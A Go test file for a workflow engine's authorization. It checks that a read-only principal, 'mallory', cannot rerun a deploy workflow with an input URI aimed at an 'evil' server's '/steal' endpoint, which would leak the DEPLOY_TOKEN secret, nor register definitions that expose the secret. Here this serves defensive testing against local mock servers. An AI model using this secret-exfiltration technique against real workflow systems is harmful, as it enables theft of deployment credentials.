package server_test

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/conductor-sdk/conductor-go/sdk/client"
	"github.com/conductor-sdk/conductor-go/sdk/model"
	"github.com/conductor-sdk/conductor-go/sdk/settings"

	"github.com/wfrun/wfrun/engine/server"
)

// recorder is an HTTP target that records the Authorization headers it got.
type recorder struct {
	*httptest.Server
	mu   sync.Mutex
	auth []string
}

func newRecorder(t *testing.T) *recorder {
	rec := &recorder{}
	rec.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rec.mu.Lock()
		rec.auth = append(rec.auth, r.Header.Get("Authorization"))
		rec.mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"ok":true}`))
	}))
	t.Cleanup(rec.Close)
	return rec
}

func (rec *recorder) got() []string {
	rec.mu.Lock()
	defer rec.mu.Unlock()
	return append([]string(nil), rec.auth...)
}

const escalationYAML = `
applications:
  - keyId: admin
    keySecret: admin-secret-0123456789
    scopes: ["*"]
  - keyId: ops
    keySecret: ops-secret-0123456789
    scopes: ["secrets:get:DEPLOY_TOKEN", "workflows:start:deploy"]
  - keyId: mallory
    keySecret: mallory-secret-0123456789
    scopes: ["workflows:read:deploy", "workflows:start:*", "tasks:poll:*", "metadata:write:mallory_*"]
  - keyId: deployer
    keySecret: deployer-secret-0123456789
    scopes: ["workflows:manage:deploy"]
`

// deployDef sends the deploy token to the URI its input names.
const deployDef = `{"name":"deploy","version":1,"schemaVersion":2,"tasks":[
  {"name":"call","taskReferenceName":"call","type":"HTTP","inputParameters":{"http_request":{
    "uri":"${workflow.input.uri}","method":"POST",
    "headers":{"Authorization":"Bearer ${workflow.secrets.DEPLOY_TOKEN}"}}}}]}`

// TestRerunEscalation: a run executes as the principal that started it.
// A principal that may only read ops's run cannot rerun it with an input
// that sends ops's secret to itself (Go SDK Rerun: 403), nor register a
// new version of its workflow or a task definition that would hand the
// secret to a worker it runs; the refused rerun changes nothing and
// nothing reaches its server. A principal granted workflows:manage:deploy
// can: that scope means acting with the secrets of the runs it covers.
func TestRerunEscalation(t *testing.T) {
	const token = "deploy-token-Qx81"
	cfg, err := server.ParseAuthConfig([]byte(escalationYAML), "test")
	if err != nil {
		t.Fatal(err)
	}
	ts := newConductorServer(t, nil, server.WithAuth(cfg))
	putSecret(t, ts.store, "DEPLOY_TOKEN", token)
	legit, evil := newRecorder(t), newRecorder(t)
	ctx := context.Background()
	sdk := func(key string) client.WorkflowClient {
		api := client.NewAPIClient(settings.NewAuthenticationSettings(key, key+"-secret-0123456789"), settings.NewHttpSettings(ts.URL+"/api"))
		return client.NewWorkflowClient(api)
	}
	meta := func(key string) client.MetadataClient {
		api := client.NewAPIClient(settings.NewAuthenticationSettings(key, key+"-secret-0123456789"), settings.NewHttpSettings(ts.URL+"/api"))
		return client.NewMetadataClient(api)
	}
	opsToken := tokenOf(t, ts, "ops")
	if st, _, body := ts.do(t, "POST", "/api/metadata/workflow", deployDef, "X-Authorization", tokenOf(t, ts, "deployer")); st != 403 {
		t.Fatalf("deployer registering deploy: %d %s, want 403", st, body)
	}
	if st, _, body := ts.do(t, "POST", "/api/metadata/workflow", deployDef, "X-Authorization", tokenOf(t, ts, "admin")); st != 200 {
		t.Fatalf("admin registering deploy: %d %s", st, body)
	}
	id, _, err := sdk("ops").StartWorkflowWithRequest(ctx, model.StartWorkflowRequest{Name: "deploy", Version: 1,
		Input: map[string]any{"uri": legit.URL + "/deploy"}})
	if err != nil {
		t.Fatal(err)
	}
	waitDone := func() {
		t.Helper()
		for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(10 * time.Millisecond) {
			_, _, body := ts.do(t, "GET", "/api/workflow/"+id+"/status", "", "X-Authorization", opsToken)
			if strings.Contains(body, `"status":"COMPLETED"`) {
				return
			}
			if time.Now().After(deadline) {
				t.Fatalf("run %s never completed: %s", id, body)
			}
		}
	}
	waitDone()
	if got := legit.got(); len(got) != 1 || got[0] != "Bearer "+token {
		t.Fatalf("the legitimate target got %v", got)
	}
	_, _, before := ts.do(t, "GET", "/api/workflow/"+id, "", "X-Authorization", opsToken)

	// mallory: read scope only.
	_, resp, err := sdk("mallory").Rerun(ctx, model.RerunWorkflowRequest{WorkflowInput: map[string]any{"uri": evil.URL + "/steal"}}, id)
	if err == nil || resp == nil || resp.StatusCode != 403 {
		t.Fatalf("mallory's rerun: %v (response %v), want 403", err, resp)
	}
	var swagger client.GenericSwaggerError
	if !errors.As(err, &swagger) || !strings.Contains(string(swagger.Body()), "lacks scope workflows:manage:deploy") {
		t.Errorf("403 body: %s", swagger.Body())
	}
	for _, def := range []string{
		strings.Replace(deployDef, `"version":1`, `"version":2`, 1),
	} {
		var wd model.WorkflowDef
		if err := json.Unmarshal([]byte(def), &wd); err != nil {
			t.Fatal(err)
		}
		if resp, err := meta("mallory").RegisterWorkflowDef(ctx, true, wd); err == nil || resp == nil || resp.StatusCode != 403 {
			t.Errorf("mallory registering deploy v2: %v, want 403", err)
		}
	}
	if resp, err := meta("mallory").RegisterTaskDef(ctx, []model.TaskDef{{Name: "call"}}); err == nil || resp == nil || resp.StatusCode != 403 {
		t.Errorf("mallory registering a task definition named call: %v, want 403", err)
	}
	st, _, body := ts.do(t, "POST", "/api/metadata/taskdefs", `[{"name":"mallory_task"},{"name":"call","runtimeMetadata":["DEPLOY_TOKEN"]}]`,
		"X-Authorization", tokenOf(t, ts, "mallory"))
	if st != 403 || !strings.Contains(body, "metadata:write:call") {
		t.Errorf("mallory's task definitions: %d %s, want 403 naming metadata:write:call", st, body)
	}
	if st, _, body := ts.do(t, "GET", "/api/metadata/taskdefs/mallory_task", "", "X-Authorization", opsToken); st != 404 {
		t.Errorf("a refused list wrote part of it: %d %s", st, body)
	}
	_, _, after := ts.do(t, "GET", "/api/workflow/"+id, "", "X-Authorization", opsToken)
	if after != before || len(evil.got()) != 0 {
		t.Fatalf("a refused rerun changed the run or reached the other server (%d requests)", len(evil.got()))
	}

	// deployer: workflows:manage:deploy — the rerun executes as ops.
	if _, _, err := sdk("deployer").Rerun(ctx, model.RerunWorkflowRequest{WorkflowInput: map[string]any{"uri": evil.URL + "/steal"}}, id); err != nil {
		t.Fatalf("deployer's rerun: %v", err)
	}
	waitDone()
	if got := evil.got(); len(got) != 1 || got[0] != "Bearer "+token {
		t.Fatalf("the rerun by a manager executes as the run's principal: the target got %v", got)
	}
}

// tokenOf logs key in (its secret is key + "-secret-0123456789").
func tokenOf(t *testing.T, ts *conductorServer, key string) string {
	t.Helper()
	_, _, body := ts.do(t, "POST", "/api/token", `{"keyId":"`+key+`","keySecret":"`+key+`-secret-0123456789"}`)
	var tok struct{ Token string }
	if err := json.Unmarshal([]byte(body), &tok); err != nil || tok.Token == "" {
		t.Fatalf("token of %s: %s", key, body)
	}
	return tok.Token
}
